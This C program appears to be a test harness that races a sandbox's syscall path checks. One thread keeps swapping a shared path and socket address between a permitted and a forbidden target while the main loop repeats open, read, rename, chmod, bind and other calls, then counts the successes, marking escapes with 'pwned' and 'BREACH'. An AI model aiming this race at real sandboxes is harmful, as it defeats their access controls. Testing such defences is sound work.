// A call is made again and again with a path that another thread changes all the time: flip CALL HARMLESS WANTED SECONDS
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static char path[4096] __attribute__((aligned(64)));
static struct sockaddr_un address = {.sun_family = AF_UNIX};
static const char *harmless, *wanted;
static volatile int over;

static void *flip(void *unused) {
    while (!over) {
        strcpy(path, wanted);
        strncpy(address.sun_path, wanted, sizeof address.sun_path - 1);
        for (volatile int i = 0; i < 300; i++);
        strcpy(path, harmless);
        strncpy(address.sun_path, harmless, sizeof address.sun_path - 1);
        for (volatile int i = 0; i < 300; i++);
    }
    return unused;
}

static long call(const char *name) {
    int fd;
    if (!strcmp(name, "open")) {
        fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0) return -1;
        if (write(fd, "pwned", 5) < 0) perror("write");
        return close(fd);
    }
    if (!strcmp(name, "read")) {
        char bytes[64] = {0};
        if ((fd = open(path, O_RDONLY)) < 0) return -1;
        if (read(fd, bytes, 63) > 0 && strstr(bytes, "SECRET")) puts("BREACH");
        return close(fd);
    }
    if (!strcmp(name, "mkdir")) { long made = mkdir(path, 0755); rmdir(harmless); return made; }
    if (!strcmp(name, "symlink")) { long made = symlink("x", path); unlink(harmless); return made; }
    if (!strcmp(name, "link")) { long made = link("source", path); unlink(harmless); return made; }
    if (!strcmp(name, "linked")) { long made = link(path, "made"); unlink("made"); return made; }
    if (!strcmp(name, "rename")) { close(open("moving", O_CREAT | O_WRONLY, 0644)); return rename("moving", path); }
    if (!strcmp(name, "renamed")) { close(open(harmless, O_CREAT | O_WRONLY, 0644)); return rename(path, "taken"); }
    if (!strcmp(name, "unlink")) { close(open(harmless, O_CREAT | O_WRONLY, 0644)); return unlink(path); }
    if (!strcmp(name, "chmod")) return chmod(path, 0777);
    if (!strcmp(name, "chown")) return chown(path, getuid(), getgid());
    if (!strcmp(name, "truncate")) return truncate(path, 0);
    if (!strcmp(name, "times")) return utimensat(AT_FDCWD, path, (struct timespec[]){{1, 0}, {1, 0}}, 0);
    if (!strcmp(name, "attribute")) return setxattr(path, "user.pwned", "1", 1, 0);
    if (!strcmp(name, "connect") || !strcmp(name, "bind")) {
        fd = socket(AF_UNIX, SOCK_STREAM, 0);
        long done = name[0] == 'c' ? connect(fd, (void *)&address, sizeof address) : bind(fd, (void *)&address, sizeof address);
        close(fd);
        if (name[0] == 'b') unlink(harmless);
        return done;
    }
    exit(2);
}

int main(int count, char **args) {
    if (count != 5) return 2;
    harmless = args[2], wanted = args[3];
    strcpy(path, harmless);
    pthread_t thread;
    pthread_create(&thread, NULL, flip, NULL);
    struct timespec now, end;
    clock_gettime(CLOCK_MONOTONIC, &end);
    double until = end.tv_sec + end.tv_nsec / 1e9 + atof(args[4]);
    long tried = 0, done = 0;
    do {
        tried++, done += call(args[1]) >= 0;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec + now.tv_nsec / 1e9 < until);
    over = 1;
    pthread_join(thread, NULL);
    printf("tried %ld times, done %ld times\n", tried, done);
}
